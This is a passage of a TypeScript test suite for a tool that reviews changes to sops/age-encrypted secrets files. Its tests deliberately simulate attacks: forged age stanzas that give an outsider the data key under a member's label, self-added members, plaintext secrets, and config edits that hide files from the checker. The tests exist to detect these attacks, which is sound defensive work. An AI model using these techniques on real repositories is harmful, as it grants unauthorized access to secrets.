    const newStripe = await reencryptSecrets(prev, new Map([...prev.values].map(([n, v]) => [n, n === "stripe_api_key" ? "sk_live_NEW" : v])));
    const both = buildReview(at("HEAD", base), at("working tree", { ...base, [PROD]: newStripe, [STRIPE]: `${base[STRIPE] as string}description: moved to the v2 account\n` }));
    expect(both.configEdited).toEqual([{ file: STRIPE, secrets: ["stripe_api_key"] }]);
    expect(buildReview(at("HEAD", base), at("working tree", { ...base, [PROD]: newStripe })).configEdited).toEqual([]);
    // a reference the change adds (here: moved to a new secret, a rename's step) is listed as a reference, not again here
    const renamedTo = await reencryptSecrets(prev, new Map([...prev.values].map(([n, v]): [string, string] => [n === "stripe_api_key" ? "stripe_key" : n, v])));
    const moved = buildReview(at("HEAD", base), at("working tree", { ...base, [PROD]: renamedTo, [STRIPE]: (base[STRIPE] as string).replace("stripe_api_key", "stripe_key") }));
    expect(moved.references?.map((r) => [r.change, r.secret, r.replaces])).toEqual([["removed", "stripe_api_key", undefined], ["added", "stripe_key", "stripe_api_key"]]);
    expect(moved.configEdited).toEqual([]);
  });

  it("says a referenced secret's error comes from this change's removal, and that the fix is to keep it or drop the reference (not to create it)", async () => {
    const { alice, base } = await project();
    const prev = await decryptSecrets(base[PROD] as string, [alice.identity]);
    const withoutStripe = await reencryptSecrets(prev, new Map([...prev.values].filter(([n]) => n !== "stripe_api_key")));
    const report = buildReview(at("HEAD", base), at("working tree", { ...base, [PROD]: withoutStripe }));
    const problem = report.problems.find((p) => p.kind === "checker-error");
    expect(problem?.message).toMatch(/^missing-environment-value: /);
    expect(problem?.message).toContain(" (this change removes stripe_api_key from production: keep it there, or remove this reference in the same change)");
    // the diagnostic itself is the checker's, as `check` prints it
    expect(report.diagnostics.find((d) => d.rule === "missing-environment-value")?.message).not.toContain("this change removes");
  });

  it("points at a comment added in clear text to an environment file (not encrypted, and no MAC covers it), not at one the base had", async () => {
    const { base } = await project();
    const commented = `# prod keys: ask #platform\n${base[PROD] as string}`;
    const report = buildReview(at("HEAD", base), at("working tree", { ...base, [PROD]: commented }));
    expect(env(report, "production").clearComments).toEqual([1]);
    expect(report.clean).toBe(true);
    const again = buildReview(at("HEAD", { ...base, [PROD]: commented }), at("working tree", { ...base, [PROD]: `${commented}\n` }));
    expect(again.environments.find((e) => e.environment === "production")?.clearComments).toBeUndefined();
  });

  it("points at a clear comment added after a value or a metadata field on its line, or inside or after the sops metadata, as at a whole-line one", async () => {
    const { base } = await project();
    const text = base[PROD] as string;
    const lineOf = (t: string, needle: string): number => t.split("\n").findIndex((l) => l.includes(needle)) + 1;
    const variants = [
      text.replace(/^(stripe_api_key: ENC\[[^\]]*\])$/m, "$1 # token=hunter2"),
      text.replace(/^( {4}mac: .*)$/m, "$1 # token=hunter2"),
      text.replace("sops:\n", "sops:\n    # token=hunter2\n"),
      `${text}# token=hunter2\n`,
    ];
    for (const v of variants) {
      const report = buildReview(at("HEAD", base), at("working tree", { ...base, [PROD]: v }));
      expect(env(report, "production").clearComments, v).toEqual([lineOf(v, "hunter2")]);
    }
    // the same comment on a line whose value changed is not new
    const moved = (variants[0] as string).replace(/^(stripe_api_key: ENC\[[^\]]*\])/m, "stripe_api_key: ENC[AES256_GCM,data:AAAA,iv:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=,tag:AAAAAAAAAAAAAAAAAAAAAA==,type:str]");
    const again = buildReview(at("HEAD", { ...base, [PROD]: variants[0] as string }), at("working tree", { ...base, [PROD]: moved }));
    expect(again.environments.find((e) => e.environment === "production")?.clearComments).toBeUndefined();
  });

  it("flags a secrets file that became plaintext, and a file that is not UTF-8, never fingerprinting a plaintext", async () => {
    const { base } = await project();
    const report = buildReview(at("HEAD", base), at("working tree", { ...base, [STAGING]: "stripe_api_key: sk_live_PLAINplain5555\n" }));
    const staging = env(report, "staging");
    expect(staging.encrypted).toBe(false);
    expect(staging.problems.map((p) => p.kind)).toContain("plaintext");
    // the plaintext value is changed (differs from the ENC string) but never fingerprinted
    expect(staging.secrets).toEqual([{ name: "stripe_api_key", change: "changed", before: expect.stringMatching(/^[0-9a-f]{8}$/) }]);
    expect(report.problems.every((p) => p.kind === "plaintext")).toBe(true);
    expect(report.clean).toBe(false);
    expect(JSON.stringify(report)).not.toContain("sk_live_PLAINplain5555");

    // bytes that are not UTF-8: unreadable, its names unknown (not all "removed")
    const unreadable = env(buildReview(at("HEAD", base), at("working tree", { ...base, [PROD]: null })), "production");
    expect(unreadable.secrets).toEqual([]);
    expect(unreadable.encrypted).toBe(false);
    expect(unreadable.problems.map((p) => p.kind)).toEqual(["plaintext"]);
  });

  it("flags one plaintext value in an otherwise encrypted file, and a file decrypted by hand as changed values", async () => {
    const { base } = await project();
    const text = base[PROD] as string;
    const plain = text.replace(/^hubspot_api_token: ENC\[[^\n]*$/m, "hubspot_api_token: sk_live_PLAINplain5555");
    expect(plain).not.toBe(text);
    const report = buildReview(at("HEAD", base), at("working tree", { ...base, [PROD]: plain }));
    expect(env(report, "production").problems.map((p) => p.kind)).toContain("plaintext");

    // a whole file decrypted by hand: every value changed, not a data-key rotation
    const decrypted = env(
      buildReview(at("HEAD", base), at("working tree", { ...base, [PROD]: "hubspot_api_token: plain_hub_AAAA6666\nlegacy_api_token: plain_legacy_BBBB7777\nstripe_api_key: plain_stripe_CCCC8888\n" })),
      "production",
    );
    expect(decrypted.dataKeyRotated).toBe(false);
    expect(decrypted.secrets.map((x) => `${x.change} ${x.name}`)).toEqual(["changed hubspot_api_token", "changed legacy_api_token", "changed stripe_api_key"]);
    expect(decrypted.secrets.every((x) => x.after === undefined)).toBe(true);
  });

  /** An age stanza as sops writes it, for text-editing a file the way an attacker would (not through the writer). */
  const stanzaText = (recipient: string, enc: string): string =>
    `        - recipient: ${recipient}\n          enc: |\n${enc.trimEnd().split("\n").map((l) => `            ${l}`).join("\n")}\n`;
  /** The file with `stanza` inserted as the first age stanza. */
  const withStanza = (text: string, stanza: string): string => {
    expect(text).toContain("    age:\n");
    return text.replace("    age:\n", `    age:\n${stanza}`);
  };
  /** The file with the stanza labelled `recipient` replaced by `stanza`. */
  const replaceStanza = (text: string, recipient: string, stanza: string): string => {
    const start = text.indexOf(`        - recipient: ${recipient}\n`);
    const end = text.indexOf("-----END AGE ENCRYPTED FILE-----\n", start) + "-----END AGE ENCRYPTED FILE-----\n".length;
    expect(start).toBeGreaterThan(-1);
    return text.slice(0, start) + stanza + text.slice(end);
  };
  const kinds = (r: ReviewReport): string[] => r.problems.map((p) => p.kind).sort();

  describe("hidden readers: stanzas wrapped anew without a data-key rotation", () => {
    it("flags a second stanza labelled as an existing member but wrapped to an outsider", async () => {
      const { alice, base } = await project();
      const mallory = await generateIdentity();
      const { dataKey } = await decryptSecrets(base[PROD] as string, [alice.identity]);
      const head = withStanza(base[PROD] as string, stanzaText(alice.recipient, await wrapDataKey(dataKey, mallory.recipient)));
      // the attack is real: the outsider now decrypts the file, and sops' MAC does not notice
      expect((await decryptSecrets(head, [mallory.identity])).values.get("stripe_api_key")).toBe("sk_live_DDDDeeee3333");
      const report = buildReview(at("HEAD~1", base), at("HEAD", { ...base, [PROD]: head }));
      const prod = env(report, "production");
      expect(prod.recipients).toEqual({ gained: [], lost: [] });
      expect(prod.problems.map((p) => p.kind)).toEqual(["rewrapped-without-rotation"]);
      expect(prod.problems[0]).toMatchObject({ file: PROD, line: 6 });
      expect(prod.problems[0]?.message).toContain("a second age stanza labelled alice");
      expect(prod.problems[0]?.message).toContain("the data key was not rotated (the encrypted value of hubspot_api_token (and 2 more) is byte-for-byte the same)");
      expect(prod.problems[0]?.message).toContain("the label proves nothing");
      expect(prod.problems[0]?.message).not.toContain(mallory.recipient);
      expect(report.clean).toBe(false);
    });

    it("flags a member's stanza replaced by one wrapped to an outsider, the label kept", async () => {
      const { alice, base } = await project();
      const mallory = await generateIdentity();
      const { dataKey } = await decryptSecrets(base[STAGING] as string, [alice.identity]);
      const head = replaceStanza(base[STAGING] as string, alice.recipient, stanzaText(alice.recipient, await wrapDataKey(dataKey, mallory.recipient)));
      const report = buildReview(at("HEAD~1", base), at("HEAD", { ...base, [STAGING]: head }));
      expect(kinds(report)).toEqual(["rewrapped-without-rotation"]);
      expect(report.problems[0]?.message).toContain("the age stanza labelled alice");
      expect(report.problems[0]?.message).toContain("was wrapped anew");
      // nothing was added: the fix names the stanza that was wrapped anew
      expect(report.problems[0]?.message).toContain("on a branch where the stanza labelled alice is still the base's");
      expect(report.problems[0]?.message).not.toContain("the added stanza");
      expect(env(report, "staging").secrets).toEqual([]);
    });

    it("flags a member's stanza wrapped anew (e.g. for the member and an outsider in one envelope): keyless, any new envelope under a kept label is suspect", async () => {
      const { alice, base } = await project();
      const { dataKey } = await decryptSecrets(base[PROD] as string, [alice.identity]);
      const head = replaceStanza(base[PROD] as string, alice.recipient, stanzaText(alice.recipient, await wrapDataKey(dataKey, alice.recipient)));
      const report = buildReview(at("HEAD~1", base), at("HEAD", { ...base, [PROD]: head }));
      expect(kinds(report)).toEqual(["rewrapped-without-rotation"]);
      // a re-indented envelope is the same envelope
      const reindented = (base[PROD] as string).replace(/^ {12}(?=[A-Za-z0-9+/=-])/gm, "              ");
      expect(kinds(buildReview(at("HEAD~1", base), at("HEAD", { ...base, [PROD]: reindented })))).toEqual([]);
    });

    it("flags a new label that is on two stanzas, besides its not being a member", async () => {
      const { alice, base } = await project();
      const mallory = await generateIdentity();
      const { dataKey } = await decryptSecrets(base[PROD] as string, [alice.identity]);
      const one = stanzaText(mallory.recipient, await wrapDataKey(dataKey, mallory.recipient));
      const two = stanzaText(mallory.recipient, await wrapDataKey(dataKey, mallory.recipient));
      const report = buildReview(at("HEAD~1", base), at("HEAD", { ...base, [PROD]: withStanza(withStanza(base[PROD] as string, one), two) }));
      expect(kinds(report)).toEqual(["non-member-recipient", "rewrapped-without-rotation"]);
      expect(report.problems.find((p) => p.kind === "rewrapped-without-rotation")?.message).toContain("is on more than one age stanza");
    });

    it("keeps honest set, rotate-key, members add and members rm clean", async () => {
      const { alice, base } = await project();
      const bob = await generateIdentity();
      const prev = await decryptSecrets(base[PROD] as string, [alice.identity]);
      const set = await reencryptSecrets(prev, new Map([...prev.values, ["hubspot_api_token", "hs_token_new"]]));
      expect(buildReview(at("a", base), at("b", { ...base, [PROD]: set })).clean).toBe(true);
      expect(buildReview(at("a", base), at("b", { ...base, [PROD]: await rotateDataKey(prev) })).clean).toBe(true);
      const withBob: Files = {
        ...base,
        "stellar.yaml": config({ staging: { alice: alice.recipient }, production: { alice: alice.recipient, bob: bob.recipient } }),
        [PROD]: await updateKeys(prev, [alice.recipient, bob.recipient]),
      };
      const added = buildReview(at("a", base), at("b", withBob));
      expect(added.problems).toEqual([]);
      expect(env(added, "production").recipients.gained).toEqual([{ recipient: bob.recipient, member: "bob" }]);
      const removed = buildReview(at("a", withBob), at("b", { ...base, [PROD]: await rotateDataKey(prev, { recipients: [alice.recipient] }) }));
      expect(removed.problems).toEqual([]);
    });

    it("tells what proves the data key is the same, and finds the re-wrapped labels", () => {
      const stanzas = [{ recipient: "age1a", enc: "A" }, { recipient: "age1b", enc: "B" }];
      expect(sameDataKeyProof({ values: new Map([["x", "ENC[1]"]]), stanzas, mac: "M" }, { values: new Map([["x", "ENC[1]"]]), stanzas: [], mac: "N" })).toContain("x");
      expect(sameDataKeyProof({ values: new Map(), stanzas, mac: "M" }, { values: new Map(), stanzas: [], mac: "M" })).toContain("MAC");
      expect(sameDataKeyProof({ values: new Map(), stanzas, mac: "M" }, { values: new Map(), stanzas: [{ recipient: "age1b", enc: "B\n" }], mac: "N" }, () => "bob")).toBe("bob's wrapped data key is unchanged");
      expect(sameDataKeyProof({ values: new Map([["x", "ENC[1]"]]), stanzas, mac: "M" }, { values: new Map([["x", "ENC[2]"]]), stanzas: [{ recipient: "age1a", enc: "C" }], mac: "N" })).toBeUndefined();

      expect(rewrapsOf(stanzas, [...stanzas, { recipient: "age1c", enc: "C" }])).toEqual([]);
      expect(rewrapsOf(stanzas, [{ recipient: "age1a", enc: "X" }, stanzas[1] as { recipient: string; enc: string }])).toEqual([{ recipient: "age1a", how: "replaced", enc: "X" }]);
      expect(rewrapsOf(stanzas, [...stanzas, { recipient: "age1b", enc: "Y" }])).toEqual([{ recipient: "age1b", how: "added", enc: "Y" }]);
      expect(rewrapsOf(stanzas, [...stanzas, { recipient: "age1c", enc: "C" }, { recipient: "age1c", enc: "D" }])).toEqual([{ recipient: "age1c", how: "duplicate", enc: "D" }]);
    });
  });

  describe("fix hints never grant access to a key the change introduced", () => {
    it("a recipient the change added: revert, or an existing member acts; never `members add` with that key", async () => {
      const { alice, base } = await project();
      const mallory = await generateIdentity();
      const prev = await decryptSecrets(base[PROD] as string, [alice.identity]);
      const report = buildReview(at("HEAD~1", base), at("HEAD", { ...base, [PROD]: await updateKeys(prev, [alice.recipient, mallory.recipient]) }));
      expect(kinds(report)).toEqual(["non-member-recipient"]);
      const message = report.problems[0]?.message ?? "";
      expect(message).not.toMatch(/members add \S+ age1/);
      expect(message).toContain(`revert the change to ${PROD}`);
      expect(message).toContain("have an existing member of production run `stellar-secrets rotate-key --env production` on a branch without what this change added");
    });

    it("a self-grant with a removal that did not rotate: no bare rotate-key (it would wrap the new key for the author)", async () => {
      const { alice, base } = await project();
      const bob = await generateIdentity();
      const mallory = await generateIdentity();
      const prev = await decryptSecrets(base[PROD] as string, [alice.identity]);
      const withBob: Files = {
        ...base,
        "stellar.yaml": config({ staging: { alice: alice.recipient }, production: { alice: alice.recipient, bob: bob.recipient } }),
        [PROD]: await updateKeys(prev, [alice.recipient, bob.recipient]),
      };
      // mallory adds herself as a member and drops bob without rotating
      const head: Files = {
        ...base,
        "stellar.yaml": config({ staging: { alice: alice.recipient }, production: { alice: alice.recipient, mallory: mallory.recipient } }),
        [PROD]: await updateKeys(prev, [alice.recipient, mallory.recipient]),
      };
      const report = buildReview(at("HEAD~1", withBob), at("HEAD", head));
      const removal = report.problems.find((p) => p.kind === "unrotated-removal");
      expect(removal?.message).not.toMatch(/: run `stellar-secrets rotate-key/);
      expect(removal?.message).toContain("revert the change to");
      expect(removal?.message).toContain("running it on this change would wrap the new data key for them too");
      expect(removal?.message).toContain("(mallory)");

      // a removal alone still says to rotate
      const plain = buildReview(at("HEAD~1", withBob), at("HEAD", { ...base, [PROD]: await updateKeys(prev, [alice.recipient]) }));
      expect(plain.problems.find((p) => p.kind === "unrotated-removal")?.message).toContain("run `stellar-secrets rotate-key --env production`, then change the values bob could read");
    });
  });

  describe("checker hints in a review never grant access to a key the change introduced", () => {
    it("a member added to stellar.yaml by hand: recipient-drift and sops-config-drift say revert, not rotate-key on this change", async () => {
      const { base } = await project();
      const mallory = await generateIdentity();
      const alice = /alice: (\S+)/.exec(base["stellar.yaml"] as string)?.[1] as string;
      // mallory lists herself as a production member; the file and .sops.yaml are untouched
      const head: Files = { ...base, "stellar.yaml": config({ staging: { alice }, production: { alice, mallory: mallory.recipient } }) };
      const report = buildReview(at("HEAD~1", base), at("HEAD", head));
      expect(env(report, "production").members.gained.map((m) => m.name)).toEqual(["mallory"]);
      const drift = report.problems.find((p) => p.message.startsWith("recipient-drift:"));
      expect(drift).toBeDefined();
      for (const text of [...report.problems.map((p) => p.message), ...report.diagnostics.filter((d) => d.file === PROD || d.file === ".sops.yaml").map((d) => d.message)]) {
        expect(text).not.toContain("rotate-key --env production`, run by an existing member");
        expect(text).not.toContain("re-key it for the members in stellar.yaml with");
        expect(text).not.toMatch(/members add \S+ age1/);
      }
      expect(drift?.message).toContain(`revert what this change added to production (in stellar.yaml or ${PROD})`);
      expect(drift?.message).toContain("on a branch without what this change added (mallory)");
      // the diagnostic and the problem stay one finding (SARIF links them by message)
      expect(report.diagnostics.some((d) => drift?.message === `${d.rule}: ${d.message}`)).toBe(true);

      // without an introduced key the checker's own hint stays
      const plainHead: Files = { ...base, "stellar.yaml": config({ staging: { alice }, production: {} }) };
      const plain = buildReview(at("HEAD~1", base), at("HEAD", plainHead));
      for (const p of plain.problems) expect(p.message).not.toContain("without what this change added");
    });
  });

  describe("a nested project's findings are worded for the outer root (inputs.folder)", () => {
    /** Each place `path` stands in `text` as a whole path, none of them below `folder`. */
    const bare = (text: string, path: string, folder: string): string[] =>
      [...text.matchAll(new RegExp(`(?<![\\w./-])${path.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}(?![\\w/-])`, "g"))].map((m) => text.slice(Math.max(0, (m.index ?? 0) - folder.length - 1), (m.index ?? 0) + path.length));

    it("names the review's own paths below the folder and runs its commands there; the structured fields stay project-relative", async () => {
      const { alice, base } = await project();
      const mallory = await generateIdentity();
      const prev = await decryptSecrets(base[PROD] as string, [alice.identity]);
      const head = at("HEAD", { ...base, [PROD]: await updateKeys(prev, [alice.recipient, mallory.recipient]) });
      const outer = buildReview(at("HEAD~1", base), head);
      const report = buildReview(at("HEAD~1", base), head, new Map(), { folder: "teams/labs" });
      expect(report.problems).toMatchObject([{ kind: "non-member-recipient", file: PROD }]);
      const message = report.problems[0]?.message ?? "";
      expect(message).toContain("can decrypt teams/labs/secrets/production.enc.yaml but is not a member of production in teams/labs/stellar.yaml");
      expect(message).toContain("(`git checkout BASE -- teams/labs/secrets/production.enc.yaml`)");
      expect(message).toContain("run `(cd teams/labs && stellar-secrets rotate-key --env production)` on a branch without what this change added");
      expect(message).toContain("with `(cd teams/labs && stellar-secrets members add)`");
      expect(bare(message, PROD, "teams/labs")).toEqual([]);
      // the outer project's wording is unchanged
      expect(outer.problems[0]?.message).toContain(`(\`git checkout BASE -- ${PROD}\`)`);
      expect(outer.problems[0]?.message).toContain("run `stellar-secrets rotate-key --env production` on a branch");
    });

    it("rewords the checker's messages (diagnostics and the problems made of them alike) and keeps them one finding", async () => {
      const { alice, base } = await project();
      const { bob, prev, withBob } = await bobJoinsProduction(alice, base);
      // bob removed in stellar.yaml alone: the checker's recipient-drift says re-key with rotate-key
      const head = at("working tree", { ...withBob, "stellar.yaml": base["stellar.yaml"] as string });
      const outer = buildReview(at("HEAD", withBob), head);
      const report = buildReview(at("HEAD", withBob), head, new Map(), { folder: "teams/labs" });
      const drift = report.diagnostics.find((d) => d.rule === "recipient-drift");
      const outerDrift = outer.diagnostics.find((d) => d.rule === "recipient-drift");
      expect(outerDrift?.message).toContain("`stellar-secrets rotate-key --env production`");
      expect(drift?.file).toBe(PROD);
      expect(drift?.message).toContain("`(cd teams/labs && stellar-secrets rotate-key --env production)`");
      expect(drift?.message).not.toMatch(/(?<!\/)stellar\.yaml/);
      for (const d of report.diagnostics) {
        expect(d.file).not.toMatch(/^teams\//);
        expect(bare(d.message, PROD, "teams/labs")).toEqual([]);
      }
      // a new checker error: the problem made of it says what its diagnostic says (SARIF links them by message)
      const unknown = buildReview(at("HEAD~1", base), at("HEAD", { ...base, [STRIPE]: "kind: auth_connector\nname: stripe\ntype: bearer_token\ntoken: { secret: labs_token }\n" }), new Map(), { folder: "teams/labs" });
      const error = unknown.problems.find((p) => p.kind === "checker-error" && p.message.startsWith("unknown-secret:"));
      expect(error?.file).toBe(STRIPE);
      expect(error?.message).toContain("`(cd teams/labs && stellar-secrets set labs_token --env ENV)`");
      expect(unknown.diagnostics.some((d) => error?.message === `${d.rule}: ${d.message}`)).toBe(true);
    });

    it("words a new nested project, a moved secrets_dir and a submodule below the folder", async () => {
      const { alice, base } = await project();
      const moved = (base["stellar.yaml"] as string).replace("version: 1\n", "version: 1\nsecrets_dir: vault\n");
      const sub = buildReview(at("HEAD~1", base), at("HEAD", { ...base, "stellar.yaml": moved, [PROD]: `${base[PROD] as string}# changed\n` }), new Map(), { folder: "teams/labs" });
      const secretsDir = sub.problems.find((p) => p.kind === "weakened-rule" && p.message.includes("secrets_dir"));
      expect(secretsDir?.file).toBe("stellar.yaml");
      expect(secretsDir?.message).toContain('teams/labs/stellar.yaml moves secrets_dir from "secrets" to "vault"');
      expect(secretsDir?.message).toContain("(`git mv teams/labs/secrets teams/labs/vault`)");
      const members = { alice: alice.recipient };
      const commit = "3068beb81eddddd00803ab49df129f105ba73997";
      const gitlink = buildReview(state("a", members, base[PROD] as string), state("b", members, undefined), new Map(), { headSubmodules: new Map([[FILE, commit]]), folder: "teams/labs" });
      const found = gitlink.problems.find((p) => p.kind === "weakened-rule");
      expect(found?.file).toBe(FILE);
      expect(found?.message).toContain("(`git rm --cached teams/labs/secrets/production.enc.yaml`) and restore the file (`git checkout BASE -- teams/labs/secrets/production.enc.yaml`)");
    });
  });

  describe("moving secrets_dir away from the environment files hides them", () => {
    it("flags a secrets_dir change that leaves environment files behind (their changes would go unreviewed); a real move is clean", async () => {
      const { base } = await project();
      const moved = (dir: string): string => (base["stellar.yaml"] as string).replace("version: 1\n", `version: 1\nsecrets_dir: ${dir}\n`);
      // the files stay in secrets/ (one of them changed), stellar.yaml now reads vault/
      const head: Files = { ...base, "stellar.yaml": moved("vault"), [PROD]: `${base[PROD] as string}# changed\n` };
      const report = buildReview(at("HEAD~1", base), at("HEAD", head));
      const weakened = report.problems.filter((p) => p.kind === "weakened-rule");
      expect(weakened).toHaveLength(1);
      expect(weakened[0]?.file).toBe("stellar.yaml");
      expect(weakened[0]?.message).toContain('secrets_dir from "secrets" to "vault"');
      expect(weakened[0]?.message).toContain(PROD);
      expect(weakened[0]?.message).toContain(STAGING);
      expect(report.clean).toBe(false);

      // git mv secrets vault with the setting: every environment keeps its file
      const real: Files = { "stellar.yaml": moved("vault") };
      for (const [k, v] of Object.entries(base)) if (k !== "stellar.yaml") real[k.replace(/^secrets\//, "vault/")] = v;
      expect(buildReview(at("HEAD~1", base), at("HEAD", real)).problems.filter((p) => p.kind === "weakened-rule")).toEqual([]);
      // the move, and a file of the attacker's left at the old place (what a resolver without stellar.yaml reads)
      const planted = buildReview(at("HEAD~1", base), at("HEAD", { ...real, [PROD]: `${base[PROD] as string}# changed\n` })).problems.filter((p) => p.kind === "weakened-rule");
      expect(planted.map((p) => p.file)).toEqual([PROD]);
    });

    it("is no move when secrets_dir names the same folder another way (secrets/., ./secrets, secrets//): check reads the files there and review sees them stay", async () => {
      const { base } = await project();
      const before = at("HEAD~1", base);
      for (const written of ["secrets/.", "./secrets", "secrets//"]) {
        const text = (base["stellar.yaml"] as string).replace("version: 1\n", `version: 1\nsecrets_dir: "${written}"\n`);
        const head = at("HEAD", { ...base, "stellar.yaml": text });
        // check (the head's own workspace) finds every environment file where the base had it
        expect(head.index?.project.secretsDir, written).toBe("secrets");
        expect([...(head.index?.environmentFiles.values() ?? [])].map((f) => f.path).sort(), written).toEqual([...(before.index?.environmentFiles.values() ?? [])].map((f) => f.path).sort());
        expect(head.diagnostics.filter((d) => d.severity === "error"), written).toEqual(before.diagnostics.filter((d) => d.severity === "error"));
        const report = buildReview(before, head);
        expect(report.problems.filter((p) => p.kind === "weakened-rule"), written).toEqual([]);
      }
    });
  });

  describe("a .sops.yaml with a duplicate key", () => {
    it("is reported at the repeated key in the head, never read as its first key (sops refuses the file)", async () => {
      const { alice, base } = await project();
      const mallory = await generateIdentity();
      const rule = (...ages: string[]): string => `creation_rules:\n  - path_regex: (^|/)secrets/[^/]+\\.enc\\.yaml$\n${ages.map((a) => `    age: ${a}\n`).join("")}`;
      const before: Files = { ...base, ".sops.yaml": rule(alice.recipient) };
      expect(buildReview(at("a", before), at("b", before)).diagnostics.filter((d) => d.file === ".sops.yaml")).toEqual([]);
      for (const ages of [[alice.recipient, mallory.recipient], [mallory.recipient, alice.recipient]]) {
        const report = buildReview(at("HEAD~1", before), at("HEAD", { ...before, ".sops.yaml": rule(...ages) }));
        const found = report.diagnostics.filter((d) => d.file === ".sops.yaml");
        expect(found.map((d) => [d.rule, d.severity, d.line, d.new])).toEqual([["sops-config-drift", "warning", 4, true]]);
        expect(found[0]?.message).toContain('has the key "age" twice in one mapping (lines 3 and 4)');
      }
    });
  });

  describe("a longer rotation period in the catalog is a weakening", () => {
    const CATALOG = "secrets/catalog.yaml";
    const catalog = (stripe: string | undefined, hubspot = "90d"): string =>
      `secrets:\n  hubspot_api_token:\n    rotate_every: ${hubspot}\n  stripe_api_key:\n    owner: payments\n${stripe === undefined ? "" : `    rotate_every: ${stripe}\n`}`;
    const weakened = (r: ReviewReport) => r.problems.filter((p) => p.kind === "weakened-rule");

    it("flags rotate_every raised (30d → 365d) at the secret's catalog entry, naming the secret and both periods", async () => {
      const { base } = await project();
      const before: Files = { ...base, [CATALOG]: catalog("30d") };
      const report = buildReview(at("HEAD~1", before), at("HEAD", { ...before, [CATALOG]: catalog("365d") }));
      expect(weakened(report)).toMatchObject([{ kind: "weakened-rule", file: CATALOG, line: 4 }]);
      expect(weakened(report)[0]?.message).toContain('raises the rotate_every of secret "stripe_api_key" from 30d to 365d');
      expect(report.clean).toBe(false);
      // 4w is 28 days: longer than 3w (21), so flagged; the unit alone does not decide
      const weeks = buildReview(at("a", { ...base, [CATALOG]: catalog("3w") }), at("b", { ...base, [CATALOG]: catalog("4w") }));
      expect(weakened(weeks)[0]?.message).toContain("from 3w to 4w");
    });

    it("flags rotate_every removed: the field, the entry, or the whole catalog, and a value that is not a period", async () => {
      const { base } = await project();
      const before: Files = { ...base, [CATALOG]: catalog("30d") };
      const field = weakened(buildReview(at("a", before), at("b", { ...before, [CATALOG]: catalog(undefined) })));
      expect(field).toMatchObject([{ file: CATALOG, line: 4 }]);
      expect(field[0]?.message).toContain('removes the rotate_every of secret "stripe_api_key" (was 30d)');
      const file = weakened(buildReview(at("a", before), at("b", { ...before, [CATALOG]: null })));
      expect(file.map((p) => p.message.match(/secret "(\w+)"/)?.[1])).toEqual(["hubspot_api_token", "stripe_api_key"]);
      expect(file[0]).not.toHaveProperty("line");
      const garbled = weakened(buildReview(at("a", before), at("b", { ...before, [CATALOG]: catalog("30 days") })));
      expect(garbled[0]?.message).toContain('from 30d to "30 days", which is not a period');
    });

    it("does not flag a shorter or equal period, a period added, or the entry of a secret the head no longer has", async () => {
      const { alice, base } = await project();
      const before: Files = { ...base, [CATALOG]: catalog("90d") };
      expect(weakened(buildReview(at("a", before), at("b", { ...before, [CATALOG]: catalog("30d") })))).toEqual([]);
      expect(weakened(buildReview(at("a", before), at("b", { ...before, [CATALOG]: catalog("3m") })))).toEqual([]);
      expect(weakened(buildReview(at("a", { ...base, [CATALOG]: catalog(undefined) }), at("b", before)))).toEqual([]);
      // hubspot_api_token deleted from every environment: its catalog entry may go with it
      const prev = await decryptSecrets(base[PROD] as string, [alice.identity]);
      const withoutHubspot = await reencryptSecrets(prev, new Map([...prev.values].filter(([n]) => n !== "hubspot_api_token")));
      const gone = buildReview(at("a", before), at("b", { ...before, [PROD]: withoutHubspot, [CATALOG]: "secrets:\n  stripe_api_key:\n    rotate_every: 90d\n" }));
      expect(weakened(gone)).toEqual([]);
    });
  });

  describe("narrowing the config files the checker reads is a weakening", () => {
    it("flags an include pattern removed, names the files it hides, and still judges them", async () => {
      const { alice, base } = await project();
      const prev = await decryptSecrets(base[PROD] as string, [alice.identity]);
      const withoutStripe = await reencryptSecrets(prev, new Map([...prev.values].filter(([n]) => n !== "stripe_api_key")));
      const narrowed = `${base["stellar.yaml"] as string}config:\n  include: ["agents/**/*.yaml"]\n`;
      const report = buildReview(
        at("HEAD~1", base),
        at("HEAD", { ...base, "stellar.yaml": narrowed, [PROD]: withoutStripe, "connectors/aws.yaml": "kind: auth_connector\nname: aws\ntype: basic\nusername: AKIAFAKEFAKEFAKE0000\npassword: { secret: stripe_api_key }\n" }),
      );
      expect(kinds(report)).toEqual(["checker-error", "checker-error", "plaintext", "weakened-rule"]);
      const weakened = report.problems.find((p) => p.kind === "weakened-rule");
      expect(weakened).toMatchObject({ file: "stellar.yaml", line: 10 });
      expect(weakened?.message).toContain('config.include no longer has "**/*.yaml"');
      expect(weakened?.message).toContain("it now hides 2 config files from the checks (connectors/aws.yaml, connectors/stripe.yaml)");
      // the hidden files are judged all the same: the broken reference and the plaintext credential
      expect(report.diagnostics.filter((d) => d.new).map((d) => `${d.rule} ${d.file}`).sort()).toEqual([
        "missing-environment-value connectors/aws.yaml",
        "missing-environment-value connectors/stripe.yaml",
        "plaintext-credential connectors/aws.yaml",
      ]);
    });

    it("flags an exclude pattern added, even when it hides no file now; a wider scope is no weakening", async () => {
      const { base } = await project();
      const excluded = buildReview(at("a", base), at("b", { ...base, "stellar.yaml": `${base["stellar.yaml"] as string}config:\n  exclude: ["node_modules/**", "connectors/**"]\n` }));
      expect(kinds(excluded)).toEqual(["weakened-rule"]);
      expect(excluded.problems[0]?.message).toContain('config.exclude adds "connectors/**"');
      expect(excluded.problems[0]?.message).toContain("(connectors/stripe.yaml)");
      const nothingYet = buildReview(at("a", base), at("b", { ...base, "stellar.yaml": `${base["stellar.yaml"] as string}config:\n  exclude: ["node_modules/**", "vendor/**"]\n` }));
      expect(nothingYet.problems[0]?.message).toContain("it hides no config file now, but may hide files added later");
      const wider = buildReview(at("a", base), at("b", { ...base, "stellar.yaml": `${base["stellar.yaml"] as string}config:\n  include: ["**/*.yaml", "**/*.yml", "**/*.json"]\n` }));
      expect(wider.problems).toEqual([]);
    });
  });

  describe("a stellar.yaml new below the root is a weakening", () => {
    const LABS = "teams/labs/connector.yaml";
    const NESTED = "teams/labs/stellar.yaml";
    const labs = "kind: auth_connector\nname: labs\ntype: bearer_token\ntoken: { secret: labs_token }\n";
    const weakened = (r: ReviewReport) => r.problems.filter((p) => p.kind === "weakened-rule");

    it("flags an empty stellar.yaml that takes a folder out of the project's checks, at that file", async () => {
      const { base } = await project();
      const before: Files = { ...base, [LABS]: labs };
      // the outer project judges the folder: labs_token is no secret of it
